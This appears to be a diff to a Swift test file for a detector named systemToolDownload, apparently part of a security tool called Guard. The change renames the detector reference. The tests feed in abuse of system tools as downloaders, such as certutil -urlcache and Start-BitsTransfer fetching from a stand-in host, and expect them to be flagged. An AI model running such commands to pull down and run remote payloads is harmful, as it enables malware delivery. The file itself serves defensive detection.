@@ -2,6 +2,7 @@ import Testing
 
 @testable import Guard
 
+/// `Signal.systemToolDownload`.
 struct SystemToolDownloadTests {
   @Test(arguments: [
     "certutil -urlcache -split -f http://fix.example/a.exe a.exe",
@@ -9,7 +10,7 @@ struct SystemToolDownloadTests {
     "Start-BitsTransfer -Source https://fix.example/a -Destination a",
   ])
   func `a download by a tool for something else is noticed`(text: String) {
-    #expect(SystemToolDownload.severity(of: text) == .notice)
+    #expect(Signal.systemToolDownload.severity(of: text) == .notice)
   }
 
   @Test(arguments: [
@@ -18,6 +19,6 @@ struct SystemToolDownloadTests {
     #"Start-BitsTransfer -Source \\server\share\a -Destination C:\a"#,
   ])
   func `the proper use of such tools is harmless`(text: String) {
-    #expect(SystemToolDownload.severity(of: text) == nil)
+    #expect(Signal.systemToolDownload.severity(of: text) == nil)
   }
 }
